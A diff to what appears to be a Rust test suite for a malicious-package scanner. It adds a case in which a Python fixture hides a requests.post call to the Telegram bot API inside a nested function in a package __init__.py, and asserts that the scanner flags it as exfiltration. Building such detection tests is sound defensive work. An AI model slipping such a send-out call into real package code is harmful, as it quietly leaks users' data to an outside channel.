@@ -623,6 +623,13 @@ class Relay:
 "#;
     let f = run("relay/__init__.py", FileRole::PackageInit, relay);
     assert!(ids(&f).contains(&"exfiltration"), "{f:#?}");
+    // the same from a function nested in the method (a callback it hands out)
+    let nested = relay.replace("    def send(self, message):\n", "    def send(self, message):\n        def later():\n            pass\n").replace(
+        "        requests.post(url, params={'chat_id': self.chat_id, 'text': message})",
+        "        def post():\n            requests.post(f\"https://api.telegram.org/bot{self.token}/sendMessage\", params={'text': message})\n        post()",
+    );
+    let f = run("relay/__init__.py", FileRole::PackageInit, &nested);
+    assert!(ids(&f).contains(&"exfiltration"), "{nested}\n{f:#?}");
     // an API client: a base URL constant on self, the user's token in a header, the
     // caller's data in the body — a capability, never a block
     let client = r#"
